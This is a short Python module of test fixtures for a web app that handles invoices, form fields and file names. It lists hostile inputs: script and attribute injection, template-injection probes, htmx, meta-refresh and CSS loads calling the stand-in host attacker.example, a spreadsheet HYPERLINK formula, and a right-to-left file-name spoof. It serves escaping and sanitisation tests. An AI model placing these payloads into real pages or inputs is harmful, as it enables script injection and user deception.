"""Strings that somebody could print on an invoice, type into a field, or name a file with, to run something of theirs."""

from __future__ import annotations

from typing import Final

FOREIGN: Final = "attacker.example"
"""A host that no page may ever ask anything of."""

HOSTILE: Final = (
    "<script>alert(1)</script>",
    f'"><img src="//{FOREIGN}/a.png" onerror=alert(2)>',
    "' onfocus=alert(3) autofocus x='",
    "javascript:alert(4)",
    "{{ 7 * 191 }}${7 * 191}",
    f'</textarea><svg onload=alert(5)><use href="//{FOREIGN}/x.svg#a">',
    f'<div hx-get="//{FOREIGN}/" hx-trigger="load"></div>',
    f'<meta http-equiv=refresh content="0;url=//{FOREIGN}/">',
    f"<style>@import '//{FOREIGN}/x.css';</style>",
    '=HYPERLINK("http://attacker.example","pay")',
    "\u202egpj.exe\u200b\u2066name",
    "A" * 300 + "<b>\u0301\u0301\u0301",
)
"""Markup, attributes, templates, htmx, formulas, directions of writing, length."""

CALCULATED: Final = str(7 * 191)
"""Shown only when a template ran inside a value."""

HOSTILE_FILE: Final = "<img src=x onerror=alert(9)>&amp;'.pdf"
"""A file name; a slash cannot be in one."""
